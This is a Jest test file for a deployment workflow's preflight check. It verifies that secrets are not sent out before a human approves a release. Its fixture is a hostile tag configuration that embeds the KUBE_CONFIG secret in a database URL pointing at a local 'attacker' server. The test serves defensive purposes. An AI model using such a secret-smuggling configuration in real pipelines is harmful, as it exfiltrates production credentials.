import type { AddressInfo } from 'node:net';
import { createServer, type Server } from 'node:net';
import { afterAll, afterEach, beforeEach, expect, test } from '@jest/globals';
import { appendPhase, beginRelease, encodeRecord } from '@slipway/release';
import { type GitHubServer, releasable, startGitHub } from '../support/github.ts';
import { clearDeployPlays, type DeployPlay, jobsOf, playDeploy, workflowsAlone } from './fixtures/deploy.ts';
import { clearPlays, type Play } from './fixtures/play.ts';

/* The shipped preflight-checklist in deploy.yml; scripts stand for the other actions. */

let attacker: Server;
let connections: number;
let github: GitHubServer;

beforeEach(async () => {
  connections = 0;
  attacker = createServer((socket) => {
    connections += 1;
    socket.destroy();
  });
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
});
afterEach(async () => {
  await github.stop();
  await new Promise((resolve) => attacker.close(resolve));
});
afterAll(clearPlays);
afterAll(clearDeployPlays);

const kubeConfig = Buffer.from('apiVersion: v1\nkind: Config\n').toString('base64url');

/** What a tag may hold whose author wants the secrets of production. */
const hostile = (port: number): Record<string, string> => ({
  '.github/slipway.yml': `app: shop
compose: {files: [compose.yml]}
services: {web: {image: registry.example.com/shop}}
database: {url: "postgresql://x:\${KUBE_CONFIG}@127.0.0.1:${port}/db", migrations: {dir: migrations}}
smoke: {base: "https://shop.example.com", checks: [{path: /health}]}
watch: {scrape: {urls: ["https://shop.example.com/metrics"]}}
`,
  'compose.yml': 'services: {web: {image: x}}\n',
  'migrations/001_first.sql': 'SELECT 1;\n',
});

/** What the build passes on. */
function built(commit: string): string {
  const begun = beginRelease({
    ...{ id: '1.2.3-77', app: 'shop', environment: 'production', version: '1.2.3', commit },
  });
  const at = new Date().toISOString();
  const phase = {
    name: 'build-push',
    outcome: 'passed',
    startedAt: at,
    endedAt: at,
    summary: 'Built.',
  } as const;
  return encodeRecord(appendPhase(begun, phase));
}

async function release(approve: DeployPlay['approve'], commit = ''): Promise<Play> {
  const { port } = attacker.address() as AddressInfo;
  const { sha, ...state } = releasable({ repository: 'example/caller', sha: '0'.repeat(40), run: '77' });
  github = await startGitHub({ ...state, sha });
  return playDeploy({
    files: hostile(port),
    phases: { 'build-push': { outputs: { release: built(commit) } } },
    repositories: { 'OWNER/slipway': workflowsAlone(['preflight-checklist']) },
    environments: {
      production: { secrets: { KUBE_CONFIG: kubeConfig } },
      'production-approval': { reviewers: true },
    },
    apiUrl: github.url,
    runId: 77,
    ...(approve ? { approve } : {}),
  });
}

test('a tag whose configuration puts a secret into an address sends nothing before the approval', async () => {
  let whenAsked: number | undefined;
  const played = await release(async () => {
    whenAsked = connections;
    return 'rejected';
  });
  expect(played.errors).toEqual([]);
  expect(jobsOf(played)).toMatchObject({ preflight: 'success', approve: 'failure', release: 'skipped' });
  expect([whenAsked, connections]).toEqual([0, 0]);
  expect(played.lines.join('\n')).toContain(
    '.github/slipway.yml is valid; KUBE_CONFIG must be set after the approval',
  );
  expect(played.lines).toContain('… Database: checked after the approval, with the secrets');
});

test('what needs the secrets is probed after the approval, before anything is changed', async () => {
  const { result } = await release(async () => 'rejected');
  await github.stop();
  const played = await release(async () => 'approved', result.jobs['deploy.build']?.outputs.commit);
  expect(jobsOf(played)).toMatchObject({ preflight: 'success', release: 'failure', rescue: 'skipped' });
  expect(connections).toBeGreaterThan(0);
  expect(played.errors).toEqual([expect.stringMatching(/^Probe refused: .*cannot connect to the database/)]);
  expect(played.lines.filter((line) => /^(?:db-migrate|rollout)/.test(line))).toEqual([]);
  expect(played.lines.join('\n')).not.toContain(kubeConfig);
});
